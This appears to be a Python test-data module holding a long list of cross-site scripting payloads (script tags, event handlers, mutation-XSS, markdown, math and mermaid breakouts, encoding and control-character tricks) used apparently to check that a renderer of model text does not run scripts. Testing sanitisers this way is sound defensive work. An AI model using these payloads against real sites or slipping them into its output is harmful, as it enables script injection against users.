"""Model text that tries to run a script as soon as it is drawn.

`RUN` stands for the payload's own call, `HOST` for its own host (see `corpus`).
"""

_HTML = r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script type=module>RUN</script>
<script src=//HOST/x.js></script>
<script/x>RUN</script >
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<img src=x onerror=RUN>
<img/src/onerror=RUN>
<IMG SRC=x ONERROR=RUN>
<IMG SRC=`x` ONERROR=`RUN`>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img src=x onerror=&#102;ired(NUMBER)>
<img src=x:x onerror=RUN//
<img src=x alt="a>b" onerror=RUN>
<image src=x onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"></script></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=1>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<details open ontoggle=RUN>x</details>
<details open ontoggle="RUN"><summary>Reasoning</summary>x</details>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe src="javascript:parent.RUN"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe onload=RUN></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src="data:text/html,<script>RUN</script>">
<video onerror=RUN><source src=x></video>
<video src=x onerror=RUN></video>
<audio src=x onerror=RUN>
<input autofocus onfocus=RUN>
<button autofocus onfocus=RUN>x</button>
<a href=# autofocus onfocus=RUN tabindex=1>x</a>
<div onfocus=RUN autofocus tabindex=1>x</div>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<marquee onstart=RUN>x</marquee>
<style onload=RUN></style>
<style>@keyframes q{}</style><b style="animation:q 1s" onanimationstart=RUN>x</b>
<link rel=stylesheet href="data:text/css," onload=RUN>
<link rel=stylesheet href=x onerror=RUN>
<input type=image src=x onerror=RUN>
<body onload=RUN>
<x onanimationstart=RUN style="animation:jp-blink 1s">x</x>
<select><style></select><img src=x onerror=RUN></style>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<textarea><img title="</textarea><img src=x onerror=RUN>">
<title><img title="</title><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<template><img src=x onerror=RUN></template>
<!-- --><img src=x onerror=RUN> -->
<!--><img src=x onerror=RUN>-->
<!--x--!><img src=x onerror=RUN>-->
<![CDATA[<img src=x onerror=RUN>]]>
<?php ?><img src=x onerror=RUN>
<!DOCTYPE html><script>RUN</script>
</details><script>RUN</script>
</details></details><img src=x onerror=RUN>
</summary></details><svg onload=RUN>
</code></pre></div><script>RUN</script>
</sub></p><img src=x onerror=RUN>
</span></span></div></div></div><img src=x onerror=RUN>
</p></td></tr></table></li></ul></blockquote><img src=x onerror=RUN>
&lt;img src=x onerror=RUN&gt;
&lt;script&gt;RUN&lt;/script&gt; &#60;img src=x onerror=RUN&#62;
&#x3c;img src=x onerror=RUN&#x3e;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
\<img src=x onerror=RUN\>
\\<img src=x onerror=RUN>
**<img src=x onerror=RUN>**
~~<img src=x onerror=RUN>~~ _<svg onload=RUN>_
`` <img src=x onerror=RUN> ` ``` <img src=x onerror=RUN>
`` ` <script>RUN</script>
`<img src=x onerror=RUN>
[<img src=x onerror=RUN>](https://HOST)
[`](https://HOST)<img src=x onerror=RUN>`](https://HOST)
![<img src=x onerror=RUN>](y.png)
""".strip().splitlines()

_ATTRIBUTES = r"""
[x](https://HOST "\" autofocus onfocus=RUN x=\"")
[x](https://HOST '"><img src=x onerror=RUN>')
[x](https://HOST "' autofocus onfocus=RUN a=")
[x](https://HOST/"autofocus/onfocus="RUN)
[x](https://HOST/<img/src=x/onerror=RUN>)
[x](https://HOST/%22%3E%3Cimg%20src=x%20onerror=RUN%3E)
[x](<https://HOST/"><img src=x onerror=RUN>>)
<https://HOST/"autofocus/onfocus=RUN>
<https://HOST/><img/src=x/onerror=RUN>
![x](y.png "$" onerror=RUN x="$")
![x](y.png "$\" onerror=RUN x=\"$")
![x](y.png '$"onerror="RUN"$')
![x](y.png "\\(" onerror=RUN x="\\)")
![x](y.png "$$" onerror=RUN x="$$")
![x](y.png "@@0@@") $" onerror=RUN x="$
![$"onerror=RUN x="$](y.png)
![" onerror=RUN x="](y.png)
![$" onerror=RUN "$][r] ![x](y.png '\begin{a}" onerror=RUN "\end{a}')
![x](y$"onerror="RUN"$.png)
[x](https://HOST "$" autofocus onfocus=RUN x="$")
[x](https://HOST/$"autofocus/onfocus="RUN"$)
# " autofocus onfocus=RUN x="
[x](https://HOST/@@0@@) $"autofocus onfocus="RUN$
![x](y.png "@@1@@") $a$ $"onerror="RUN$
""".strip().splitlines()

_MATH = r"""
$<img src=x onerror=RUN>$
$$<img src=x onerror=RUN>$$
\\(<img src=x onerror=RUN>\\)
\\[<img src=x onerror=RUN>\\]
\begin{a}<img src=x onerror=RUN>\end{a}
$</span><script>RUN</script>$
$"onerror="RUN$
$`<img src=x onerror=RUN>`$
$x}${ <img src=x onerror=RUN>$
$x{$ <img src=x onerror=RUN>$
$x\{$ <img src=x onerror=RUN>$
$$x$ <img src=x onerror=RUN>$$
$x$$<img src=x onerror=RUN>$$y$
$&lt;img src=x onerror=RUN&gt;$
$5\$$<img src=x onerror=RUN>$
$a\\$<img src=x onerror=RUN>$
`$` <img src=x onerror=RUN> `$`
`$$` x `$$ <img src=x onerror=RUN>`
`\begin{a}` <img src=x onerror=RUN> `\end{a}`
**a $x** <img src=x onerror=RUN>$
~D<img src=x onerror=RUN>~D `~D` ~T
@@0@@ $"onerror=RUN$ <img src=x onerror=RUN>
$@@0@@$ <img src=x onerror=RUN> @@1@@
$\text{<img src=x onerror=RUN>}$
$\unicode{x3c}img src=x onerror=RUN\unicode{x3e}$
$\unicode{60,'" onload=RUN "'}$
$\mmlToken{mtext}[onclick=RUN]{<img src=x onerror=RUN>}$
$\require{html}\htmlData{onerror=RUN}{<img src=x onerror=RUN>}$
$\verb|<img src=x onerror=RUN>|$
$\text{\href{javascript:RUN}{<img src=x onerror=RUN>}}$
$\csname <img src=x onerror=RUN>\endcsname$
$$ a <img src=x onerror=RUN
$a < b <img src=x onerror=RUN>
\\( a <img src=x onerror=RUN>
$% $ <img src=x onerror=RUN>
""".strip().splitlines()

_BLOCKS = [
    "```html\n<script>RUN</script>\n```\n\n<script>RUN</script>",
    "```\n<script>RUN</script>",
    "```\nx\n``` \n<script>RUN</script>",
    "````\n```\n<script>RUN</script>",
    "~~~\n```\n~~~\n<img src=x onerror=RUN>",
    "``````\n```\n``````\n<img src=x onerror=RUN>\n``````",
    '```"><img src=x onerror=RUN>\nx\n```',
    '~~~"><img src=x onerror=RUN>\nx\n~~~',
    "```js onclick=RUN\nx\n```\n\n<b autofocus tabindex=0 onfocus=RUN>x",
    "```mermaid\ngraph LR; A[<img src=x onerror=RUN>]\n```",
    "```MERMAID\ngraph LR; A[<img src=x onerror=RUN>]\n```",
    "```mermaid-x\n<img src=x onerror=RUN>\n```",
    "- ```mermaid\n  graph TD; A[<img src=x onerror=RUN>] --> B\n  ```",
    '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'
    "graph TD; A[<img src=x onerror=RUN>]\n```",
    "```math\n</div><img src=x onerror=RUN>\n```",
    "- ```\n  $\n  ```\n- <img src=x onerror=RUN> $",
    "> ```\n> $ <img src=x onerror=RUN>\n> ```\n\n$",
    "    $ <img src=x onerror=RUN>\n\n$",
    "```\n$$\n```\n\n<img src=x onerror=RUN>\n\n```\n$$\n```",
    "```\n\\begin{a}\n```\n\n<img src=x onerror=RUN>\n\n```\n\\end{a}\n```",
    "```\n\u2028```\u2028<img src=x onerror=RUN>\n```\n<img src=x onerror=RUN>",
    "```\n\u0085```\u0085<img src=x onerror=RUN>\n```\n<img src=x onerror=RUN>",
    "```\n\r```\r<img src=x onerror=RUN>\n```\n<img src=x onerror=RUN>",
    "x\n===\n<script>RUN</script>\n---",
    "# <img src=x onerror=RUN>\n## x",
    "| <script>RUN</script> | b |\n|---|---|\n| `a|<img src=x onerror=RUN>` | $|x$ |",
    "| a |\n|---|\n| <img src=x onerror=RUN> |\n| `\\|`<svg onload=RUN> |",
    "- | a |\n  |---|\n  | <img src=x onerror=RUN> `<b>` |",
    "- a\n\n  <script>RUN</script>\n\n> <img src=x onerror=RUN>",
    "1. a\n   <img src=x onerror=RUN>\n2. > <svg onload=RUN>",
    "[^1]: <img src=x onerror=RUN>\n\n[^1]",
    "a\n: <img src=x onerror=RUN>\n",
    "<div>\n\n<script>RUN</script>\n\n</div>",
    "<pre>\n\n<img src=x onerror=RUN>",
    "<script>\n\nRUN\n\n</script>",
    "<!--\n\n-->\n\n<img src=x onerror=RUN>\n\n<!--\n-->",
    "a&#10;&#10;# b&#10;&#10;<img src=x onerror=RUN>",
    "$$\n<img src=x onerror=RUN>\n$$",
    "$$\nx\n\n<img src=x onerror=RUN>\n\n$$",
    "\\[\n\\text{</p><script>RUN</script>}\n\\]",
    "> $$\n> x\n\n<img src=x onerror=RUN>\n\n> $$",
    "% <img src=x onerror=RUN>\n$x % $ <img src=x onerror=RUN>\n$",
    "<img\nsrc=x\nonerror=RUN\n>",
    "<img src=x\n\nonerror=RUN> <img src=y\nonerror=RUN>",
    "\ufeff<script>RUN</script>",
    "\x00<script>RUN</script>\x00",
    "<scr\x00ipt>RUN</script><img src=x onerror=RUN>",
    "<scr\x1b[0mipt>RUN</script><img src=x onerror=RUN>",
    "<im\u200bg src=x onerror=RUN><img src=x onerror=RUN>",
    "<img\x0csrc=x\x0conerror=RUN>",
    "\ufdd0img src=x onerror=RUN> \ufdd1999\ufdd2 <img src=x onerror=RUN>",
    "\ud800<script>RUN</script>\udc00",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e <img src=x onerror=RUN>",
    "---\ntitle: <img src=x onerror=RUN>\n---\n\n{{ 7*7 }} {% raw %}",
    '[r]: y.png "$\' onerror=RUN x=$"\n\n![x][r]',
    "[r]: y.png '$\" onerror=RUN x=\"$'\n\n![x][r]",
]

SCRIPTS = [*_HTML, *_ATTRIBUTES, *_MATH, *_BLOCKS]
